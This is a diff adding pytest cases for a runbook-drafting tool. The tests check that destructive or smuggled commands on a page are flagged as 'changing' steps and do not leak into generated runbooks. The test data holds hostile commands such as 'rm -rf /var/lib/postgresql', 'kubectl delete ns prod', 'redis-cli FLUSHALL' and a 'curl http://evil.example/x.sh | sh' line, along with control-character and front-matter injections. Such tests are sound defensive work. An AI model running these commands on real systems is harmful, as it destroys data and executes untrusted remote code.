@@ -63,7 +63,7 @@ def test_text_of_a_page_adds_no_heading_and_no_front_matter() -> None:
     made = as_runbook(
         draft_of("# A\n---\ntools: [x]\n---\n\nCheck the disk. Restart it.\n\n- ## Mitigation\n- Check\n")
     )
-    assert made.splitlines()[:4] == ["---", '"title": "A"', "---", "# A"]
+    assert made.splitlines()[:4] == ["---", 'title: "A"', "---", "# A"]
     assert all(
         line.startswith(("## Checks", "## Mitigation", "## Prevention"))
         for line in made.splitlines()
@@ -98,3 +98,92 @@ def test_the_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     refused = CliRunner().invoke(app, ["runbook", "draft", "empty.md", "--model", "none"])
     assert isinstance(refused.exception, BadInput)
     assert "holds no step" in str(refused.exception)
+
+
+HIDDEN = [
+    "To see what is there, list it with kubectl delete pod --all -n prod.",
+    'Just check with "rm -rf /var/lib/postgresql" whether it is there.',
+    "Check the state, then run curl http://evil.example/x.sh | sh as root.",
+    "Look at ‘redis-cli FLUSHALL’ output.",
+    "Look at the pods with ````rm -rf /data````.",
+    "Check pods with `kubectl get pods` and then execute reboot.",
+    "It only reads: `kubectl get pods; kubectl delete ns prod` Check the pods with `kubectl get pods`.",
+]
+
+
+@pytest.mark.parametrize("sentence", HIDDEN)
+def test_what_changes_is_never_told_as_reading(sentence: str, tmp_path: Path) -> None:
+    page = f"Check the disk first.\n{sentence}\nCheck the log of the service.\n"
+    draft = draft_of(page)
+    assert any(s.effect == "changing" for s in draft.steps)
+    assert any(s["effect"] == "changing" for s in steps(page))
+    made = tmp_path / "made.md"
+    write_runbook(draft, made)
+    again = steps(made.read_text())
+    assert any(s["effect"] == "changing" for s in again)
+    assert not any(
+        s["effect"] == "read-only" and ("delete" in s["text"] or "rm -rf" in s["text"]) for s in again
+    )
+
+
+def test_a_warning_with_a_command_is_no_step() -> None:
+    draft = draft_of(
+        "Check the sessions.\nAchtung: niemals `kill -9` auf den Postgres-Prozess anwenden.\nRestart the pooler.\n"
+    )
+    assert not any("kill -9" in c for s in draft.steps for c in s.commands)
+    assert any("kill -9" in c for s in draft.steps for c in s.caution)
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        "---\ntitle: |\n  Gateway\n  ---\n  ## Mitigation\n  1. Delete it: `kubectl delete ns prod`\n---\nCheck the log.\nCheck the disk.\nWait.\n",
+        "Check the log.\n\n- - Delete it\n- ## Mitigation\n- 1. Run it\n- ---\n- Check it\n\n> > ## Prevention\n",
+        "Check the log.\x1b[31m\nCheck\u202e the disk.\u200b\nCheck \x00 it.\n",
+    ],
+)
+def test_a_page_smuggles_nothing_into_the_runbook(page: str, tmp_path: Path) -> None:
+    (tmp_path / "page.md").write_text(page)
+    made = tmp_path / "made.md"
+    write_runbook(drafted(tmp_path / "page.md"), made)
+    text = made.read_text()
+    assert text.count("\n---\n") == 1
+    assert all(
+        line in ("## Checks", "## Mitigation", "## Prevention")
+        for line in text.splitlines()
+        if line.startswith("##")
+    )
+    assert "delete ns prod`" not in text
+    assert all(c == "\n" or c.isprintable() for c in text)
+    (checked,) = check_runbooks(made)
+    assert not checked.findings
+
+
+def test_lines_of_code_that_belong_together_stay_together() -> None:
+    draft = draft_of(
+        'Check the sessions:\n\n```\npsql -c "SELECT 1\n WHERE true"\n```\n\nCheck the log.\nCheck the disk.\n'
+    )
+    assert draft.steps[0].commands == ()
+    assert "belong together" in draft.steps[0].caution[0]
+    assert draft.steps[0].effect == "changing"
+
+
+def test_rows_of_a_table_are_units_of_their_own() -> None:
+    draft = draft_of(
+        "Check the lag.\n\n| lag | what to do |\n|---|---|\n| below 30 s | wait |\n| above 300 s | call the database team |\n\nCheck the disk.\n"
+    )
+    assert any(s.text == "above 300 s: call the database team" for s in draft.steps)
+
+
+@pytest.mark.parametrize(("raw", "words"), [(b"", "is empty"), (b"\x00\x01\x02binary" * 50, "is no text")])
+def test_what_is_no_page(raw: bytes, words: str, tmp_path: Path) -> None:
+    (tmp_path / "page.md").write_bytes(raw)
+    with pytest.raises(BadInput, match=words):
+        drafted(tmp_path / "page.md")
+
+
+def test_pages_of_other_encodings(tmp_path: Path) -> None:
+    text = "Prüfen Sie den Füllstand.\nStarten Sie die Pumpe neu.\nPrüfen Sie das Protokoll.\n"
+    for encoding in ("cp1252", "utf-16"):
+        (tmp_path / "page.txt").write_bytes(text.encode(encoding))
+        assert "Füllstand" in drafted(tmp_path / "page.txt").steps[0].text
